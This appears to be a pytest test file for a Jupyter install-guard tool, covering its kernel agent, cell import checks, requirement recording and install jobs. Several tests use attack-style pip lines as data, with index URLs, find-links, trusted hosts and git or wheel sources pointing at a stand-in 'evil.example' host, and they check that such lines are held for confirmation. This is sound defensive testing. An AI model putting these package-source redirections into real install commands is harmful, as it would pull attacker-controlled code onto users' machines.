"""The panel's door: what it may import where, what it writes down, what cells need."""

from __future__ import annotations

import ast
import json
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from safeinstall import agent
from safeinstall.agent import jobs, loader, operate
from safeinstall.agent.older import environment_name
from safeinstall.errors import SafeInstallError
from safeinstall.findings import Severity
from safeinstall.magics import SafeInstall
from safeinstall.render import MIME, Displayed, outcome_message
from test_render import CASES

HOME = Path(agent.__file__).parent
OLD = ("__init__.py", "loader.py", "older.py")


@pytest.fixture(autouse=True)
def no_jobs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delitem(sys.modules, jobs.STATE, raising=False)


def value(method: str, **params: Any) -> Any:
    answer = agent.answer(method, params)
    assert "error" not in answer, answer
    json.dumps(answer)
    return answer["value"]


@pytest.mark.parametrize("name", OLD)
def test_what_old_kernels_run_is_python_3_8_and_needs_the_standard_library_only(name: str) -> None:
    text = (HOME / name).read_text("utf-8")
    tree = ast.parse(text, feature_version=(3, 8))
    imported = [
        alias.name.split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
    ]
    imported += [
        (node.module or "").split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom)
    ]
    assert set(imported) <= {*sys.stdlib_module_names, "safeinstall", "__future__"}


def test_the_loader_is_ascii_and_imports_nothing_of_ours_at_the_top() -> None:
    text = (HOME / "loader.py").read_text("utf-8")
    assert text.isascii()
    top = [node for node in ast.parse(text).body if isinstance(node, ast.Import)]
    assert top == []


def test_the_loader_uses_what_is_installed_and_answers_as_json() -> None:
    from safeinstall import __version__

    before = set(sys.modules), list(sys.path)
    question = json.dumps({"method": "status", "params": {"id": "none"}})
    reply = loader.answer(__version__, "digest", "", question)
    bundle = reply._repr_mimebundle_()
    assert bundle[loader.REPLY] == {"value": None}
    assert list(sys.path) == before[1]
    assert {
        name for name in set(sys.modules) - before[0] if not name.startswith("safeinstall")
    } <= {loader.STATE}


def test_the_loader_asks_for_the_archive_when_another_version_is_loaded() -> None:
    reply = loader.answer("0.0.other", "digest", "", json.dumps({"method": "facts"}))
    assert reply.content == {"need": "archive"}


@pytest.mark.parametrize(
    ("prefix", "kind", "name"),
    [
        ("/home/ana/proj/.venv", "venv", "proj/.venv"),
        ("/opt/conda/envs/data", "conda", "data"),
        ("/usr", "debian-system", "Debian's Python"),
        ("/", "venv", "/"),
    ],
)
def test_an_environment_is_called_what_people_call_it(prefix: str, kind: str, name: str) -> None:
    assert environment_name(prefix, kind) == name


def test_an_unknown_method_is_an_answer_and_no_exception() -> None:
    assert agent.answer("open_the_door", {})["error"]["code"] == "no-method"


def test_a_line_that_cannot_be_read_is_an_answer_with_the_reason() -> None:
    error = agent.answer("install", {"line": "--no-such-option x"})["error"]
    assert "--no-such-option" in error["message"]


def test_facts_say_which_interpreter_this_is_and_whether_installs_go_right() -> None:
    facts = value("facts")
    assert facts["executable"] == sys.executable
    assert facts["verdict"]["state"] in ("yes", "care", "no")
    assert facts["verdict"]["sentence"]


def test_the_imports_of_cells_are_compared_with_the_environment() -> None:
    cells = [
        {"id": "a", "source": "%matplotlib inline\nimport json, packaging.version\n!ls"},
        {"id": "b", "source": "from sklearn.svm import SVC\nfrom . import mine"},
        {"id": "c", "source": "%%bash\nimport this_is_no_python"},
        {"id": "d", "source": "import broken syntax"},
    ]
    found = value("cells", cells=cells)
    assert found["present"] == ["json", "packaging"]
    missing = [(item["module"], item["cell"], item["distribution"]) for item in found["missing"]]
    assert missing == [("sklearn", "b", "scikit-learn")]


PLACES = {
    "-i https://evil.example/simple pandas": "--index-url https://evil.example/simple",
    "--index-url=https://evil.example/simple pandas": "--index-url https://evil.example/simple",
    f"pandas{' ' * 300}-i https://evil.example/simple": "--index-url https://evil.example/simple",
    "--extra-index-url https://evil.example/simple pandas": "--extra-index-url https://evil",
    "pandas --extra-index-url http://127.0.0.1:9/s": "--extra-index-url http://127.0.0.1:9/s",
    "-f https://evil.example/wheels pandas": "--find-links https://evil.example/wheels",
    "--no-index -f ./wheels pandas": "--no-index",
    "pandas --find-links ./wheels": "--find-links ./wheels",
    "--trusted-host evil.example pandas": "--trusted-host evil.example",
    "https://evil.example/pandas-9-py3-none-any.whl": "https://evil.example/pandas-9-py3",
    "'pandas @ https://evil.example/p.whl'": "pandas @ https://evil.example/p.whl",
    "https://evil.example/pandas-9.tar.gz": "https://evil.example/pandas-9.tar.gz",
    "git+https://evil.example/pandas": "git+https://evil.example/pandas",
    "hg+https://evil.example/pandas": "hg+https://evil.example/pandas",
    "pandas git+https://evil.example/pandas@main#egg=numpy": "git+https://evil.example/pandas@main",
    "-e git+https://evil.example/pandas#egg=pandas": "--editable git+https://evil.example/pandas",
    "'pandas[all] @ git+ssh://git@evil.example/x'": "git+ssh://git@evil.example/x",
    "./project": "./project",
    "-e ./project": "--editable",
    "./evil-1.0-py3-none-any.whl": "./evil-1.0-py3-none-any.whl",
    "-r pylock.toml": "--requirement ./pylock.toml",
}
"""What may stand in a cell, and what of it is said before anything is done."""


@pytest.fixture
def beside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of a notebook, with what its cells name."""
    monkeypatch.chdir(tmp_path)
    for name in ("project", "wheels"):
        (tmp_path / name).mkdir()
    (tmp_path / "project" / "pyproject.toml").write_text('[project]\nname="p"\nversion="1"\n')
    (tmp_path / "evil-1.0-py3-none-any.whl").write_bytes(b"PK\x05\x06" + bytes(18))
    entry = '[[packages]]\nname = "x"\nversion = "1"\n[[packages.wheels]]\nname = "x.whl"\n'
    entry = entry.replace("x.whl", "x-1-py3-none-any.whl")
    entry += f'url = "https://evil.example/x-1-py3-none-any.whl"\nhashes.sha256 = "{"0" * 64}"\n'
    lock = f'lock-version = "1.0"\ncreated-by = "evil"\n{entry}'
    (tmp_path / "pylock.toml").write_text(lock)
    return tmp_path


@pytest.mark.attack("lines of a notebook")
@pytest.mark.parametrize("line", PLACES)
def test_a_line_that_nobody_typed_is_asked_about_before_it_says_where_packages_come_from(
    line: str, beside: Path
) -> None:
    for method in ("install", "new_environment"):
        result = ended(value(method, line=line, taken_over=True, path="new"))["result"]
        assert [found["code"] for found in result["outcome"]["findings"]] == ["not-typed"]
        assert result["outcome"]["status"] == "needs-confirmation"
        assert PLACES[line] in result["message"]["headline"]
        assert result["message"]["lines"] == [result["outcome"]["asked"]]
        assert result["confirm"] == {"taken_over": False}
    assert not (beside / "new").exists()


@pytest.mark.attack("lines of a notebook")
@pytest.mark.parametrize("line", PLACES)
def test_a_button_shows_all_of_the_line_that_it_takes_from_a_cell(line: str, beside: Path) -> None:
    (found,) = wrong(f"!/no/such/python -m pip install {line}")
    (button,) = found["actions"]
    assert button["params"]["taken_over"] is True
    assert PLACES[line] in button["line"]
    assert button["line"] == found["instead"] == f"%safeinstall {button['params']['line']}"


@pytest.mark.attack("lines of a notebook")
@pytest.mark.parametrize(
    "consent",
    [
        *("--yes", "-y", "--allow-build pandas", "--allow-direct", "--allow-file-options"),
        *("--allow-conflicts", "--allow-kernel-change", "--allow-stdlib-name"),
    ],
)
def test_a_cell_agrees_to_nothing_in_the_place_of_who_clicks(consent: str) -> None:
    (found,) = wrong(f"!/no/such/python -m pip install --pre {consent} pandas")
    (button,) = found["actions"]
    assert button["params"]["line"] == "--pre pandas"
    assert found["instead"] == "%safeinstall --pre pandas"
    result = ended(value("install", line=f"{consent} pandas", taken_over=True))["result"]
    assert [found["code"] for found in result["outcome"]["findings"]] == ["not-typed"]


def test_a_secret_in_a_cell_is_run_and_not_shown() -> None:
    (found,) = wrong("!/no/such/pip install -i https://me:s3cr3t@h.example/s pandas")
    (button,) = found["actions"]
    assert "s3cr3t" in button["params"].pop("line")
    assert "s3cr3t" not in json.dumps(found)
    line = "--index-url https://me:s3cr3t@h.example/s pandas"
    job = ended(value("install", line=line, taken_over=True))
    assert "s3cr3t" not in json.dumps(job)


def test_only_what_this_process_has_shown_has_buttons() -> None:
    assert value("outcome", id="0" * 32) == {"made": None}
    assert value("outcome") == value("outcome", id=[{}]) == {"made": None}
    shown = Displayed(CASES["done"], outcome_message(CASES["done"]))
    bundle = shown._repr_mimebundle_()[MIME]
    assert bundle["id"] in value("facts")["outcomes"]
    ways = {"restart": bundle["restart"], "transaction": bundle["transaction"]}
    assert value("outcome", id=bundle["id"]) == {"made": ways}
    assert shown._repr_mimebundle_()[MIME]["id"] == bundle["id"]


def wrong(source: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = value("cells", cells=[{"id": "a", "source": source}])["wrong"]
    return found


@pytest.mark.parametrize(
    ("source", "requirements", "expected", "new"),
    [
        ("import x", ["a==1"], "%safeinstall a==1", True),
        ("%safeinstall a==1 b", ["a==2"], "%safeinstall a==2 b", False),
        ("%safeinstall b\nimport b", ["c>=1"], "%safeinstall b 'c>=1'\nimport b", False),
        ("%safeinstall --index-url", ["c"], "%safeinstall c", True),
    ],
)
def test_a_requirement_is_recorded_as_a_magic(
    source: str, requirements: list[str], expected: str, new: bool
) -> None:
    recorded = value("record", where="magic", source=source, requirements=requirements)
    assert (recorded["source"].replace('"c>=1"', "'c>=1'"), recorded["new"]) == (expected, new)


def test_a_requirement_is_recorded_in_a_script_block_that_keeps_the_rest() -> None:
    fresh = value("record", where="pep723", source="x = 1", requirements=["a==1"])
    assert fresh == {
        "source": '# /// script\n# dependencies = [\n#   "a==1",\n# ]\n# ///',
        "new": True,
    }
    old = '"""Doc."""\n# /// script\n# requires-python = ">=3.11"\n' + fresh["source"][13:] + "\nx"
    again = value("record", where="pep723", source=old, requirements=["b", "A==2"])
    assert again["source"] == (
        '"""Doc."""\n# /// script\n# requires-python = ">=3.11"\n'
        '# dependencies = [\n#   "A==2",\n#   "b",\n# ]\n# ///\nx'
    )


def test_a_script_block_that_cannot_be_read_is_left_alone() -> None:
    source = "# /// script\n# dependencies = [a]\n# ///\n"
    answer = agent.answer("record", {"where": "pep723", "source": source, "requirements": ["b"]})
    assert "cannot be read as TOML" in answer["error"]["message"]
    source = "# /// script\n# dependencies = []\nimport x\n"
    answer = agent.answer("record", {"where": "pep723", "source": source, "requirements": ["b"]})
    assert "that nothing closes" in answer["error"]["message"]


def ended(job: dict[str, Any]) -> dict[str, Any]:
    end = time.monotonic() + 10
    while time.monotonic() < end:
        found: dict[str, Any] = value("status", id=job["id"])
        if found["state"] != "running":
            return found
        time.sleep(0.01)
    raise AssertionError("the job did not end")


def test_a_job_is_told_and_kept() -> None:
    def work(job: jobs.Job) -> dict[str, Any]:
        job.progress("numpy: 4 of 6")
        return {"done": True}

    found = ended(jobs.start("install", "numpy", work))
    assert (found["state"], found["result"]) == ("ended", {"done": True})
    assert found["fraction"] == pytest.approx(4 / 6)


def test_what_was_configured_holds_for_the_panel_too(monkeypatch: pytest.MonkeyPatch) -> None:
    own = SafeInstall(guards={"name-trap": "refuse"}, undo_transactions=3)
    monkeypatch.setattr(operate, "options_of", lambda shell: own)
    context = operate.context_of(jobs.Job("install", "x"))
    assert context.policy == {"name-trap": Severity.REFUSE}
    assert context.keeping.transactions == 3


def test_a_job_that_fails_says_why() -> None:
    def work(job: jobs.Job) -> None:
        raise SafeInstallError("No disk.", code="no-space", hint="df")

    found = ended(jobs.start("install", "numpy", work))
    assert found["state"] == "failed"
    assert found["result"]["error"] == {"code": "no-space", "message": "No disk.", "hint": "df"}


def test_only_one_job_works_at_a_time_and_cancel_ends_it() -> None:
    def work(job: jobs.Job) -> None:
        while True:
            job.stop_if_cancelled()
            time.sleep(0.01)

    first = jobs.start("install", "numpy", work)
    with pytest.raises(SafeInstallError, match="Still at work: numpy"):
        jobs.start("install", "pandas", work)
    assert value("cancel", id=first["id"])["cancelling"]
    assert ended(first)["result"]["error"]["code"] == "interrupted"
